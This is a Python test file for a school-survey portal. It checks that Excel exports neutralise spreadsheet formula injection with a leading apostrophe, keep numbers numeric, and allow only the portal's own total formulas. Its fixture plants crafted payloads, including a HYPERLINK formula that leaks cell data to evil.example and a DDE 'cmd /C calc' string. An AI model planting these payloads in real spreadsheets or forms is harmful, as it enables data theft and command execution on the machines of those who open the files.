"""Excel exports carry no formulas from what people typed (issue 13, recipe 4): crafted answers, school, district,
curator and indicator names come out as text, neutralised as OWASP recommends (a leading apostrophe), numbers stay
numbers; the only formulas are the portal's own totals."""

import re

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from reports.exports import EXPORTS, export_request_for
from schools.models import District, School
from schools.roles import Access
from surveys.models import Answer
from tests.factories import CuratorFactory, StatusAwardFactory, methodologist
from tests.reports_world import small_round

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A7&B7,"Открыть подтверждающий документ")'
CRAFTED = {
    "answer": HYPERLINK,
    "school": "=cmd|' /C calc'!A0",
    "district": "+SUM(1;1)",
    "curator": "@SUM(1+1)",
    "tab": "\t=1+1",
    "indicator": "-2+3",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PORTAL_FORMULA = re.compile(r'^=(COUNTA|IFERROR|SUM|AVERAGE)\([A-Z]+\d+:[A-Z]+\d+\)|^=IFERROR\(AVERAGE\([A-Z]+\d+:[A-Z]+\d+\),""\)$')


@pytest.fixture
def crafted_world():
    world = small_round()
    Answer.objects.filter(submission__school=world.s87, question__code="comment").update(value_text=CRAFTED["answer"])
    School.objects.filter(pk=world.s97.pk).update(full_name=CRAFTED["school"])
    District.objects.filter(pk=world.sovetsky.pk).update(name=CRAFTED["district"])
    CuratorFactory(school=world.s10, user__last_name=CRAFTED["curator"], user__email="kurator@example.org")
    Answer.objects.filter(submission__school=world.s10, question__code="comment").delete()
    Answer.objects.create(submission=world.submissions[world.s10], question=world.q.comment, value_text=CRAFTED["tab"])
    world.speed.name = CRAFTED["indicator"]
    world.speed.save(update_fields=["name"])
    StatusAwardFactory(school=world.s97, municipality=world.city, year=2026)
    return world


def exported(tmp_path, world, kind):
    path = tmp_path / f"{kind}.xlsx"
    params = {"round_id": world.current.pk} if EXPORTS[kind].needs == "round" else {"year": 2026, "round_id": world.current.pk}
    export_request_for(Access(methodologist()), kind, **params).write(path, timezone.now())
    return load_workbook(path)


# Every spreadsheet export; the district's passports are Word documents in a ZIP, where a formula cannot run.
SPREADSHEETS = sorted(kind for kind, spec in EXPORTS.items() if spec.extension == "xlsx")


@pytest.mark.parametrize("kind", SPREADSHEETS)
def test_no_typed_text_becomes_a_formula_in_any_export(tmp_path, crafted_world, kind):
    workbook = exported(tmp_path, crafted_world, kind)
    formulas, triggered, seen = [], [], set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not PORTAL_FORMULA.match(str(cell.value)):
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
                if isinstance(cell.value, str):
                    if cell.data_type != "f" and cell.value.startswith(TRIGGERS):
                        triggered.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
                    seen.update(name for name, text in CRAFTED.items() if cell.value == "'" + text)
    assert not formulas, f"{kind}: cells that Excel would run:\n" + "\n".join(formulas)
    assert not triggered, f"{kind}: text that starts like a formula:\n" + "\n".join(triggered)
    assert seen, f"{kind}: the crafted values should appear, neutralised with a leading apostrophe"


def test_numbers_stay_numbers(tmp_path, crafted_world):
    sheet = exported(tmp_path, crafted_world, "answers")["Ответы"]
    speeds = [row[4].value for row in sheet.iter_rows(min_row=5, max_row=9)]  # the rows below the header (row 4)
    assert 120 in speeds and all(isinstance(v, int | float) or v is None for v in speeds)
